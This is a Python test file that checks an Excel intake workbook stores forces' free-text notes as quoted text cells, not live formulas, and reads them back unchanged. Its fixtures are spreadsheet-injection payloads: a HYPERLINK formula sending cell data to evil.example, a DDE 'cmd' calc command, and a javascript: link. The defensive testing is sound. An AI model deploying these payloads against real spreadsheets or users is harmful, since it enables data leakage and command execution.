"""The intake workbook sent to the forces holds their notes as text: a note that starts like a
formula is a string cell (marked as Excel marks text typed after a quote, so that editing it
keeps it text), and importing the workbook back gives the same notes."""

from __future__ import annotations

import csv
from pathlib import Path

from helpers import EDITION, set_answer
from openpyxl import load_workbook

from nsc_report.cli.main import main
from nsc_report.cycle.intake import ANSWERS, COLUMNS, write_workbook
from nsc_report.data import load_edition

NOTES = {
    "Q2": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "Q3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Q4": "+1+1",
    "Q12": "-1+1",
    "Q13": "[x](javascript:alert(1))",
}


def notes(path: Path) -> dict[str, str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {r["question_id"]: r["note"] for r in csv.DictReader(fh)
                if r["force_code"] == "E23000008" and r["question_id"] in NOTES}


def test_formula_like_notes_are_text_and_read_back_the_same(data_copy: Path, tmp_path: Path,
                                                           capsys):
    for qid, note in NOTES.items():
        set_answer(data_copy, "Durham", qid, "ye_mar_2023", note=note)
    returns = data_copy / EDITION / "foi_returns.csv"
    assert notes(returns) == NOTES
    book = write_workbook(load_edition(data_copy, EDITION, lazy=True), tmp_path / "a.xlsx")
    ws = load_workbook(book)[ANSWERS]
    column = COLUMNS.index("note")
    found = {}
    for row in ws.iter_rows(min_row=2):
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
        if row[column].value in NOTES.values():
            found[row[COLUMNS.index("question_id")].value] = row[column]
    assert {q: c.value for q, c in found.items()} == NOTES
    assert all(c.data_type == "s" for c in found.values())
    assert {q for q, c in found.items() if c.quotePrefix} == {"Q2", "Q3", "Q4", "Q12"}
    returns.write_text(returns.read_text(encoding="utf-8").replace("@SUM", "changed"),
                       encoding="utf-8")
    code = main(["intake", "import", str(book), "--data-dir", str(data_copy),
                 "--edition", EDITION])
    assert code == 0, capsys.readouterr()
    assert notes(returns) == NOTES
